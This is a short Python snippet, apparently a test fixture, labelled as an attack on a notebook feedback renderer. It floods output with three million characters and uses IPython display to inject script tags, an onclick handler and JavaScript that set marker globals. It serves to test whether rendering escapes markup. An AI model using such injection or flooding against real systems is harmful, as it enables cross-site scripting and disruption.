# The attack: flood the output and put markup and script into what feedback renders.
from IPython.display import HTML, Javascript, display
print("x" * 3_000_000)
display(HTML("<script>window.PWNED_BY_FLOODER = 1</script><b onclick='x()'>FLOODER-HTML</b>"))
display(Javascript("window.PWNED_BY_FLOODER_JS = 1"))
